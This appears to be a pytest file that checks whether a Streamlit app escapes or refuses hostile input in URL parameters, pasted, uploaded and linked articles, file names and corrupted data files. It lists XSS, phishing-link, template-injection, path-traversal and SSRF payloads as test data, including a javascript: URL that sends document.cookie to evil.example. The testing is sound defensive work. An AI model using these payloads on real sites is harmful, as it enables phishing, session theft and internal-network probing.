"""The app against hostile input, through AppTest: URL parameters, pasted and uploaded articles, file names and
corrupted data files. Each case must end in one named message (or the input shown as text), no exception, and an
app that still serves the next run.

Markdown safety is checked on what Streamlit would render: every Markdown-rendering element's body is parsed with a
CommonMark parser (markdown-it-py, with GFM's autolinks) and must hold no link or image to the attacker's domain;
with every backslash escape removed, none of Streamlit's own syntax (``:red[...]``, ``:material/...:``, ``$...$``)
may be left. HTML elements (``st.html``) must hold no script, event handler or ``javascript:`` link.
"""

from __future__ import annotations

import html
import json
import re
import shutil
from pathlib import Path

import pytest
import streamlit as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

import loaders
from geo import paths
from geo.corpus import MAX_ARTICLE_BYTES
from geo.markup import WORD_JOINER
from geo.tables import shown_path
from tests.test_added import HOSTILE_FILES

APP = str(paths.ROOT / "app.py")
SOURCES = "app_pages/sources.py"
TIMEOUT = 120
EVIL = "evil.example"  # every hostile value names this domain, so a leak is easy to spot
MARKDOWN_TYPES = ("markdown", "caption", "warning", "error", "success", "info", "title", "subheader", "header")
# Streamlit's own inline syntax, which CommonMark parsers do not know.
STREAMLIT_SYNTAX = re.compile(r":[a-z]+\[|:material/|\$[^$\s]|:[a-z_]+:")
MARKDOWN = MarkdownIt("commonmark", {"linkify": True}).enable("linkify")


@pytest.fixture(autouse=True)
def clear_caches():
    st.cache_data.clear()
    yield
    st.cache_data.clear()


def _unescaped(body: str) -> str:
    """``body`` without its backslash escapes: what is left is what Markdown would interpret."""
    return re.sub(r"\\.", "", body, flags=re.S)


def _links(body: str) -> list[str]:
    found = []
    for token in MARKDOWN.parse(body):
        for child in [token, *(token.children or [])]:
            if child.type in ("link_open", "image"):
                found.append(child.attrs.get("href") or child.attrs.get("src") or "")
    return found


def assert_rendered_safely(at: AppTest) -> None:
    """No Markdown element links to, or loads from, the attacker; no Streamlit directive from the input; no HTML
    element with a script, an event handler or a javascript: link."""
    assert not at.exception, [e.value for e in at.exception]
    for kind in MARKDOWN_TYPES:
        for element in at.get(kind):
            body = str(element.proto.body if hasattr(element.proto, "body") else element.value)
            assert not [href for href in _links(body) if EVIL in href], (kind, body)
            if EVIL in body.replace("\\", ""):  # the element quotes the input: none of it may stay active
                assert EVIL not in _unescaped(body), (kind, body)
                assert not STREAMLIT_SYNTAX.search(_unescaped(body).replace("material/map", "")), (kind, body)
    for element in at.get("html"):
        body = element.proto.body
        if element.proto.unsafe_allow_javascript:  # only the map's note, built from the repository's files alone
            assert body == loaders.map_note_html(), body[:300]
            continue
        # Inside tags only: escaped text ("&lt;img onerror=...&gt;.txt", a file name shown as text) holds no "<".
        tags = "".join(re.findall(r"<[^>]*>", body))
        assert not re.search(r"<script|\bon\w+\s*=|javascript:", tags, re.I), body[:300]


def messages(at: AppTest, kind: str) -> list[str]:
    return [str(element.value) for element in at.get(kind)]


@pytest.mark.parametrize(
    "text",
    [
        f"[Session expired](https://{EVIL}/login) ![x](https://{EVIL}/t.png)",
        f"<https://{EVIL}> www.{EVIL} https://{EVIL}/a_b_c",
        "**bold** _it_ `code` ~~gone~~ # not a heading | a | b |",
        "\\[escaped\\] \\\\ back\\slashes \\",
        "&amp; &lt;b&gt; <b>tag</b> &#x41;",
        "1. not a list - nor this > nor a quote",
    ],
)
def test_md_text_renders_as_the_same_characters(text):
    from geo.markup import md_text

    rendered = MARKDOWN.render(md_text(text)).replace(WORD_JOINER, "")
    assert rendered == f"<p>{html.escape(text, quote=False)}</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        f"x https://{EVIL}/login",
        f"(HTTP://{EVIL})",
        f"x www.{EVIL} WWW.{EVIL} wWw.{EVIL}",
        f"x mailto:a@{EVIL} xmpp:a@{EVIL}/r me@{EVIL}",
        f"![x](https://{EVIL}/t.png)",
    ],
)
def test_md_text_leaves_no_gfm_autolink_literal(text):
    """Streamlit's frontend (remark-gfm) finds autolink literals through backslash escapes, so md_text breaks each
    with a word joiner: what remark sees once the escapes are read contains none (GFM spec, autolinks extension)."""
    from geo.markup import md_text

    seen = _unescaped_chars(md_text(text))
    assert not re.search(r"(?i)\b(https?|ftp)://|(?<![a-z])www\.|[\w.+-]@[\w-]", seen), seen
    assert seen.replace(WORD_JOINER, "") == text


def _unescaped_chars(body: str) -> str:
    """``body`` as a CommonMark parser reads it: every backslash escape replaced by the character it escapes."""
    return re.sub(r"\\(.)", r"\1", body, flags=re.S)


# --- URL parameters ------------------------------------------------------------------------------------------------

URL_CASES = [
    # (id, ?date= value, the day shown, words in the one warning)
    ("phishing-link", f"[Session expired - click to log in](https://{EVIL}/login)", "2020-11-10", "not a date"),
    ("remote-image", f"![x](https://{EVIL}/t.png)", "2020-11-10", "not a date"),
    ("reference-link", f"[x][1]\n\n[1]: https://{EVIL}", "2020-11-10", "not a date"),
    ("autolink", f"<https://{EVIL}/>", "2020-11-10", "not a date"),
    ("bare-url", f"https://{EVIL}/login", "2020-11-10", "not a date"),
    ("bare-www", f"www.{EVIL}", "2020-11-10", "not a date"),
    ("script-tag", f"<script>fetch('https://{EVIL}')</script>", "2020-11-10", "not a date"),
    ("javascript-link", f"[ok](javascript:alert('{EVIL}'))", "2020-11-10", "not a date"),
    ("streamlit-colour", f":red[Session expired, log in at {EVIL}]", "2020-11-10", "not a date"),
    ("streamlit-icon", f":material/warning: log in at {EVIL}", "2020-11-10", "not a date"),
    ("emoji-shortcode", f":rotating_light: {EVIL}", "2020-11-10", "not a date"),
    ("katex-href", f"$\\href{{https://{EVIL}}}{{x}}$", "2020-11-10", "not a date"),
    ("heading-and-list", f"2020-11-20\n# Hacked {EVIL}\n- item", "2020-11-10", "not a date"),
    ("10k-brackets", "[" * 10_000 + f"]({EVIL})", "2020-11-10", "not a date"),
    ("long-value", f"{EVIL} " * 5_000, "2020-11-10", "not a date"),
    ("nul-and-rtl", f"2020-11-20\x00\u202e{EVIL}", "2020-11-10", "not a date"),
    # Python 3.11 reads these as ISO dates; the app accepts only YYYY-MM-DD, as its message says.
    ("basic-format", "20201120", "2020-11-10", "not a date"),
    ("week-date", "2020-W47-5", "2020-11-10", "not a date"),
    ("impossible-day", "2020-02-30", "2020-11-10", "not a date"),
    ("far-future", "9999-12-31", "2020-12-01", "outside"),
    ("far-past", "0001-01-01", "2020-09-27", "outside"),
]


@pytest.mark.parametrize(("value", "shown", "words"), [c[1:] for c in URL_CASES], ids=[c[0] for c in URL_CASES])
def test_hostile_date_parameter_gets_one_escaped_warning(value, shown, words):
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.query_params["date"] = value
    at.run()
    assert_rendered_safely(at)
    (warning,) = messages(at, "warning")
    assert words in warning.replace("\\", "")
    assert at.slider(key="day").value.isoformat() == shown
    at.run()  # still serving: the next run is the chosen day, with no error
    assert not at.exception


def test_a_hostile_place_parameter_gets_one_escaped_warning_and_others_are_ignored():
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.query_params["place"] = f"<img src=x onerror=alert(1)>[x](https://{EVIL})"
    at.query_params["embed_options"] = f"<script>{EVIL}</script>"
    at.run()
    assert_rendered_safely(at)
    (warning,) = messages(at, "warning")
    assert "is not a place on the map" in warning.replace("\\", "")
    assert "place" not in at.query_params  # dropped from the address: the link box names no place
    assert "place=" not in at.text_input(key="view_link").value  # state.KEY_VIEW_LINK
    at.query_params["place"] = "x" * 100_000  # long: refused on its length, quoted short
    at.run()
    (warning,) = messages(at, "warning")
    assert len(warning) < 200 and not at.exception


# --- pasted articles and their names --------------------------------------------------------------------------------

BODY = "Azerbaijan extended the deadline for the withdrawal from Kalbajar to November 25, officials said on Sunday."
PASTE_CASES = [
    # (id, text, name, "added" or words of the one error)
    ("markdown-title", f"[Log in](https://{EVIL}) ![x](https://{EVIL}/t.png)\n\n{BODY}", "a.txt", "added"),
    (
        "script-body",
        f"Report\n\n{BODY} <script>alert('{EVIL}')</script> <img src=x onerror=alert(1)>",
        "b.txt",
        "added",
    ),
    ("template-syntax", f"Report {{{{ 7*7 }}}} {{% raw %}}\n\n{BODY} {{map}} {{{{config}}}}", "c.txt", "added"),
    ("script-end", f"Report\n\n{BODY} </script><script>alert('{EVIL}')</script>", "d.txt", "added"),
    ("line-separators", f"Report\u2028two\u2029three\n\n{BODY}\u2028", "e.txt", "added"),
    ("zero-width-name", "Report\n\nTroops left Kal\u200bba\u200cjar on Sunday, the ministry said.", "f.txt", "added"),
    ("bidi-override", f"Report \u202e{EVIL}\n\n{BODY}", "g.txt", "added"),
    ("name-markdown-link", BODY, f"[Session expired](https://{EVIL}).txt", "added"),
    ("name-html", BODY, f"<img src=x onerror=alert('{EVIL}')>.txt", "added"),
    ("name-directive", BODY, f":red[{EVIL}] :material/lock:.txt", "added"),
    ("name-path", BODY, f"../../../etc/{EVIL}/passwd", "added"),
    ("name-long", BODY, f"{EVIL}-" * 500 + ".txt", "added"),
    ("empty", "   \n\n  ", "h.txt", None),  # nothing to add: the page says so
    ("addresses-only", f"https://{EVIL}/a\n<https://{EVIL}/b>", "i.txt", "no article text"),
    ("over-the-limit", "Kalbajar. " * (MAX_ARTICLE_BYTES // 10 + 1), "j.txt", "limit"),
]


def open_sources() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.switch_page(SOURCES)
    return at.run()


def uploader(at: AppTest, key: str):
    """The file uploader with ``key``."""
    (found,) = [u for u in at.get("file_uploader") if u.key == key]
    return found


def paste(text: str, name: str) -> AppTest:
    at = open_sources()
    at.text_area(key="paste_text").input(text)
    at.text_input(key="paste_name").input(name)
    return at.button(key="add_article").click().run()


@pytest.mark.parametrize(("text", "name", "outcome"), [c[1:] for c in PASTE_CASES], ids=[c[0] for c in PASTE_CASES])
def test_hostile_paste_is_added_as_text_or_refused_with_a_message(text, name, outcome):
    at = paste(text, name)
    assert_rendered_safely(at)
    if outcome == "added":
        (success,) = messages(at, "success")
        assert success.startswith("Added ")
        assert len(at.session_state["added_articles"]) == 1
    elif outcome is None:
        (error,) = messages(at, "error")
        assert "Nothing to add" in error
    else:
        (error,) = messages(at, "error")
        assert outcome in error.replace("\\", "")
        assert not at.session_state["added_articles"] if "added_articles" in at.session_state else True
    at.switch_page("app_pages/map.py").run()  # the map takes the session's articles; still serving
    assert_rendered_safely(at)


def test_template_syntax_in_an_article_reaches_the_popup_as_written():
    """``{map}`` used to come out as the map's variable name: the script substituted it everywhere, data included."""
    at = paste("Report\n\nTroops left Kalbajar, see {map} and {{ 7*7 }}, on Sunday, officials said.", "braces.txt")
    at.switch_page("app_pages/map.py").run()
    (component,) = at.get("component_instance")
    script = json.loads(component.proto.json_args)["script"].replace("\\u007b", "{")
    assert "see {map} and {{ 7*7 }}, on Sunday" in script
    assert "see map_" not in script


# --- uploaded files ---------------------------------------------------------------------------------------------------

UPLOAD_CASES = [
    # (id, file name, bytes, "added" or words of the one error)
    ("markdown-name", f"[Session expired](https://{EVIL}).txt", BODY.encode(), "added"),
    ("directive-name", f":red[log in at {EVIL}].md", BODY.encode(), "added"),
    ("html-name", f"<svg onload=alert('{EVIL}')>.txt", BODY.encode(), "added"),
    ("bom-crlf", "bom.txt", ("\ufeffTitle\r\n\r\n" + BODY + "\r\n").encode(), "added"),
    ("markdown-links-in-body", "links.md", f"# Title\n\n[Kalbajar](https://{EVIL}) {BODY}".encode(), "added"),
    ("png", "picture.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), "binary"),
    ("nul-late", "late.txt", (BODY + " ").encode() * 100 + b"\x00" + BODY.encode(), "binary"),
    ("utf16", "utf16.txt", ("\ufeff" + BODY).encode("utf-16"), "binary"),
    ("latin1", "latin1.txt", "Kəlbəcər".encode()[:-1] + "é".encode("latin-1") + BODY.encode(), "UTF-8"),
    ("empty", "empty.txt", b"", "empty"),
    ("over-the-limit", "big.txt", b"Kalbajar. " * (MAX_ARTICLE_BYTES // 10 + 1), "limit"),
    ("big-binary", "big.md", b"\x00\xff" * (MAX_ARTICLE_BYTES), "binary"),
]


@pytest.mark.parametrize(("name", "raw", "outcome"), [c[1:] for c in UPLOAD_CASES], ids=[c[0] for c in UPLOAD_CASES])
def test_hostile_upload_is_added_as_text_or_refused_with_a_message(name, raw, outcome):
    at = open_sources()
    uploader(at, "upload").set_value((name, raw, "text/plain"))
    at.button(key="add_uploaded_article").click().run()
    assert_rendered_safely(at)
    if outcome == "added":
        (success,) = messages(at, "success")
        assert success.startswith("Added ")
    else:
        (error,) = messages(at, "error")
        assert outcome in error.replace("\\", ""), error
        assert name.replace("\\", "") in error.replace("\\", "")  # the message names the file
    at.run()
    assert not at.exception


# --- restoring saved articles -----------------------------------------------------------------------------------------

RESTORE_CASES = [
    # (id, file name, bytes, words of the one error); tests/test_added.py has every case without the app.
    *[(case_id, "my save.json", raw, words) for case_id, raw, words in HOSTILE_FILES],
    ("markdown-file-name", f"[Session expired](https://{EVIL}).json", b"[]", "not a saved-articles file"),
    (
        "markdown-article-name",
        "s.json",
        json.dumps(
            {"format": "kb-added-articles", "version": 1, "articles": [{"name": f"[x](https://{EVIL})", "text": BODY}]}
        ).encode(),
        "holds a path separator",
    ),
    ("server-path", "/srv/app/uploads/s.json", b"[]", "not a saved-articles file"),
]


@pytest.mark.parametrize(("name", "raw", "words"), [c[1:] for c in RESTORE_CASES], ids=[c[0] for c in RESTORE_CASES])
def test_hostile_saved_file_is_refused_with_one_message_naming_it(name, raw, words):
    at = open_sources()
    uploader(at, "restore_upload").set_value((name, raw, "application/json"))
    at.run()
    assert_rendered_safely(at)
    (error,) = messages(at, "error")
    plain = error.replace("\\", "").replace(WORD_JOINER, "")
    assert words in plain, plain
    assert plain.startswith((shown_path(name) + ":", shown_path(name) + ", article")), plain  # the file's own name
    assert "/srv/" not in plain and "Traceback" not in plain
    assert "added_articles" not in at.session_state or not at.session_state["added_articles"]
    at.run()  # still serving
    assert not at.exception


# --- corrupted data files ---------------------------------------------------------------------------------------------


def _edit_csv_line(path: Path, line: int, old: str, new: str) -> None:
    lines = path.read_text(encoding="utf-8").split("\n")
    assert old in lines[line - 1], (path, line)
    lines[line - 1] = lines[line - 1].replace(old, new, 1)
    path.write_text("\n".join(lines), encoding="utf-8")


def _bom(path: Path) -> None:
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


def _crlf(path: Path) -> None:
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))


def _geojson_point(path: Path) -> None:
    import json

    data = json.loads(path.read_text(encoding="utf-8"))
    data["features"][2]["geometry"] = {"type": "Point", "coordinates": [46.5, 40.0]}
    path.write_text(json.dumps(data), encoding="utf-8")


def _geojson_unknown_id(path: Path) -> None:
    import json

    data = json.loads(path.read_text(encoding="utf-8"))
    data["features"][4]["properties"]["id"] = "atlantis"
    path.write_text(json.dumps(data), encoding="utf-8")


def _truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:5000])


DATA_CASES = [
    # (id, file in data/, corruption, page, words the one error must hold; None: accepted, no error)
    ("places-bom", "places.csv", _bom, "app_pages/map.py", None),
    ("places-crlf", "places.csv", _crlf, "app_pages/map.py", None),
    ("timeline-bom-crlf", "timeline.csv", lambda p: (_bom(p), _crlf(p)), "app_pages/map.py", None),
    (
        "places-missing-column",
        "places.csv",
        lambda p: _edit_csv_line(p, 1, ",lat,", ",latitude,"),
        "app_pages/map.py",
        ["places.csv", "lat"],
    ),  # fmt: skip
    (
        "places-bad-lat",
        "places.csv",
        lambda p: _edit_csv_line(p, 3, ",39.99306,", ",north,"),
        "app_pages/map.py",
        ["places.csv", "row 3"],
    ),  # fmt: skip
    (
        "places-lat-out-of-range",
        "places.csv",
        lambda p: _edit_csv_line(p, 3, ",39.99306,", ",399.9,"),
        "app_pages/map.py",
        ["places.csv", "row 3"],
    ),  # fmt: skip
    (
        "places-unknown-district",
        "places.csv",
        lambda p: _edit_csv_line(p, 3, ",aghdam,AZ,", ",atlantis,AZ,"),
        "app_pages/map.py",
        ["places.csv", "row 3", "atlantis"],
    ),  # fmt: skip
    (
        "places-alias-clash",
        "places.csv",
        lambda p: _edit_csv_line(p, 3, "Ağdam,", "Kəlbəcər,"),
        "app_pages/map.py",
        ["places.csv", "row"],
    ),  # fmt: skip
    (
        "timeline-unknown-place",
        "timeline.csv",
        lambda p: _edit_csv_line(p, 2, "aghdam,1994", "atlantis,1994"),
        "app_pages/map.py",
        ["timeline.csv", "row 2", "atlantis"],
    ),  # fmt: skip
    (
        "timeline-bad-date",
        "timeline.csv",
        lambda p: _edit_csv_line(p, 3, "2020-11-20", "2020-13-20"),
        "app_pages/map.py",
        ["timeline.csv", "row 3"],
    ),  # fmt: skip
    (
        "timeline-bad-control",
        "timeline.csv",
        lambda p: _edit_csv_line(p, 3, ",azerbaijani,", ",victorious,"),
        "app_pages/map.py",
        ["timeline.csv", "row 3"],
    ),  # fmt: skip
    (
        "timeline-extra-field",
        "timeline.csv",
        lambda p: _edit_csv_line(p, 3, "aghdam,", "aghdam,x,"),
        "app_pages/map.py",
        ["timeline.csv", "row 3"],
    ),  # fmt: skip
    (
        "people-missing-column",
        "people.csv",
        lambda p: _edit_csv_line(p, 1, ",aliases,", ",alias,"),
        "app_pages/sources.py",
        ["people.csv"],
    ),  # fmt: skip
    (
        "metadata-unknown-file",
        "articles/metadata.csv",
        lambda p: p.write_text(p.read_text(encoding="utf-8") + "999_missing.txt,X,,,,,\n", encoding="utf-8"),
        "app_pages/map.py",
        ["metadata.csv", "999_missing.txt"],
    ),  # fmt: skip
    (
        "metadata-bad-date",
        "articles/metadata.csv",
        lambda p: _edit_csv_line(p, 3, "2020-11-16", "16/11/2020"),
        "app_pages/map.py",
        ["metadata.csv", "row 3"],
    ),  # fmt: skip
    (
        "article-binary",
        "articles/000_60ec3c07fbdbac85.txt",
        lambda p: p.write_bytes(b"\x00" * 64),
        "app_pages/map.py",
        ["000_60ec3c07fbdbac85.txt", "binary"],
    ),  # fmt: skip
    ("geojson-truncated", "districts.geojson", _truncate, "app_pages/map.py", ["districts.geojson"]),
    ("geojson-point", "districts.geojson", _geojson_point, "app_pages/map.py", ["districts.geojson", "Point"]),
    (
        "geojson-unknown-id",
        "districts.geojson",
        _geojson_unknown_id,
        "app_pages/map.py",
        ["districts.geojson", "atlantis"],
    ),  # fmt: skip
    (
        "areas-bad-number",
        "district_areas.csv",
        lambda p: _edit_csv_line(p, 2, ",1150,", ",many,"),
        "app_pages/about.py",
        ["district_areas.csv", "row 2"],
    ),  # fmt: skip
]


@pytest.fixture
def data_copy(tmp_path, monkeypatch) -> Path:
    """A copy of ``data/`` that the app reads instead of the real one."""
    copy = tmp_path / "data"
    shutil.copytree(paths.DATA, copy)
    monkeypatch.setattr(paths, "DATA", copy)
    for name in ("ARTICLES", "PLACES_CSV", "PEOPLE_CSV", "TIMELINE_CSV", "DISTRICTS_GEOJSON", "DISTRICT_AREAS_CSV"):
        monkeypatch.setattr(paths, name, copy / getattr(paths, name).relative_to(paths.ROOT / "data"))
    monkeypatch.setattr(paths, "ARTICLE_METADATA_CSV", copy / "articles" / "metadata.csv")
    return copy


@pytest.mark.parametrize(
    ("file", "corrupt", "page", "words"), [c[1:] for c in DATA_CASES], ids=[c[0] for c in DATA_CASES]
)
def test_corrupted_data_file_gets_one_located_message(data_copy, file, corrupt, page, words):
    corrupt(data_copy / file)
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    if page != "app_pages/map.py":
        at.switch_page(page)
    at.run()
    assert_rendered_safely(at)
    errors = messages(at, "error")
    if words is None:
        assert not errors
        return
    (error,) = errors
    plain = error.replace("\\", "")
    for word in words:
        assert word in plain, plain
    assert str(data_copy) not in plain and str(paths.ROOT) not in plain and "Traceback" not in plain
    at.run()  # still serving, with the same message
    assert not at.exception and len(messages(at, "error")) == 1


# --- links ------------------------------------------------------------------------------------------------------------

LINK_CASES = [
    # (id, address, words of the one error); tests/test_links.py has every failure without the app.
    ("javascript", f"javascript:fetch('https://{EVIL}/'+document.cookie)", "javascript: addresses are not read"),
    ("file", "file:///etc/passwd", "file: addresses are not read"),
    ("markdown-link", f"[Session expired](https://{EVIL}/login)", "not a web address"),
    ("directive", f"https://{EVIL}/:red[x]:material/lock:", f"no such host: {EVIL}"),
    ("metadata-service", "http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local address"),
    ("private", "http://10.0.0.1/admin", "10.0.0.1 is a private address"),
    ("blank", "   ", "Nothing to add"),
]


@pytest.mark.parametrize(("url", "words"), [c[1:] for c in LINK_CASES], ids=[c[0] for c in LINK_CASES])
def test_a_hostile_link_gets_one_message(url, words):
    at = open_sources()
    at.text_input(key="link_url").input(url)
    at.button(key="add_link_article").click().run()
    assert_rendered_safely(at)
    (error,) = messages(at, "error")
    assert words in error.replace("\\", "").replace(WORD_JOINER, ""), error
    assert not at.session_state["added_articles"] if "added_articles" in at.session_state else True


def test_the_app_refuses_a_page_served_from_this_machine():
    """A saved page served on 127.0.0.1 (tests/test_links.py's server) is refused by the app, which has no way to
    allow private hosts; the server is never asked."""
    from tests.test_links import REUTERS, serve

    server = serve("127.0.0.1")
    try:
        at = open_sources()
        at.text_input(key="link_url").input(server.url(f"/pages/{REUTERS}"))
        at.button(key="add_link_article").click().run()
        assert_rendered_safely(at)
        (error,) = messages(at, "error")
        assert "refused: 127.0.0.1 is a loopback address" in error.replace("\\", "")
        assert server.seen == []
    finally:
        server.shutdown()
        server.server_close()


def test_a_hostile_page_read_from_a_link_is_added_as_text(monkeypatch):
    """A page whose title, site name and author carry Markdown, Streamlit directives and HTML, and whose text links
    to javascript: the download is given (the app refuses every local server), the rest is the app's."""
    from geo import links

    body = " ".join(["Residents of Kalbajar left on Friday before the deadline of November 25, officials said."] * 4)
    page = f"""<html><head><title>t</title>
<meta property="og:title" content="[Log in](https://{EVIL}/login) :material/lock: &lt;img src=x onerror=alert(1)&gt;">
<meta property="og:site_name" content=":red[{EVIL}] &lt;script&gt;alert(1)&lt;/script&gt;">
<meta name="author" content="[Support Desk](https://{EVIL}/help)">
<meta property="article:published_time" content="2020-11-20">
</head><body><article><p>{body} <a href="javascript:alert('{EVIL}')">Kalbajar</a></p></article></body></html>"""

    def download(address, **options):
        return links.Page(url=address, content_type="text/html", charset="utf-8", body=page.encode())

    monkeypatch.setattr(links, "download", download)
    at = open_sources()
    at.text_input(key="link_url").input(f"https://{EVIL}/news/kalbajar")
    at.button(key="add_link_article").click().run()
    assert_rendered_safely(at)
    (success,) = messages(at, "success")
    assert success.startswith("Added ")
    (name, _text), *others = at.session_state["added_articles"]
    assert not others
    at.multiselect(key="sources_pick").select(name).run()
    assert_rendered_safely(at)
    shown = "".join(str(h.proto.body) for h in at.get("html"))
    # The title's Markdown link is reduced to its words, as a pasted title's is; the rest is text.
    assert "<h3>Log in :material/lock: &lt;img src=x onerror=alert(1)&gt;</h3>" in shown
    assert f":red[{EVIL}] &lt;script&gt;alert(1)&lt;/script&gt;, 20 Nov 2020" in shown
    assert "javascript:" not in shown
